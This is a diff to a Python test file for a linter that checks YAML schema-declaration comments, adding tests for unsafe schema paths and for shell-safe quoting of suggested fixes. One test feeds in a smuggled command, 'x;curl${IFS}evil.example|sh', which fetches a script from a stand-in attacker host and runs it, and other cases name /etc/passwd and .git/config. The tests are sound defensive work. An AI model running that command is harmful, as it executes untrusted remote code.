@@ -87,7 +87,8 @@ def test_what_is_pasted_wires_it(practice: Practice) -> None:
         ("# yaml-language-server: $schema=/etc/passwd", "unknown"),
         ("# yaml-language-server: $schema=https://example.com/x.json", "unknown"),
         ("# yaml-language-server: $schema=ai-governance.yaml", "unknown"),
-        ("# yaml-language-server: $schema=.git/config", "to-do"),
+        ("# yaml-language-server: $schema=.git/config", "unknown"),
+        ("# yaml-language-server: $schema=schemas", "unknown"),
         (f"#yaml-language-server: $schema={HERE}", "hint"),
         (f"# schema={HERE}", "hint"),
     ],
@@ -98,6 +99,19 @@ def test_a_line_in_the_declaration(practice: Practice, line: str, state: str) ->
     told, _, at, _ = practice.says("editor/schema")
     assert told == state
     assert at == (1 if state == "hint" else 2)
+
+
+def test_what_is_pasted_runs_nothing_else(practice: Practice) -> None:
+    """The line comes from a pull request, and the fix goes to a shell."""
+    head(practice, "# $schema: x;curl${IFS}evil.example|sh")
+    answer = practice.answers()["editor/schema"]
+    assert answer["state"] == "to-do"
+    assert answer["mend"].endswith("  govlint schema > 'x;curl${IFS}evil.example|sh'")
+
+
+def test_no_file_is_overwritten(practice: Practice) -> None:
+    head(practice, "# yaml-language-server: $schema=ai-governance.yaml")
+    assert practice.answers()["editor/schema"]["mend"] == ""
 
 
 def test_a_line_further_down_does_not_count(practice: Practice) -> None:
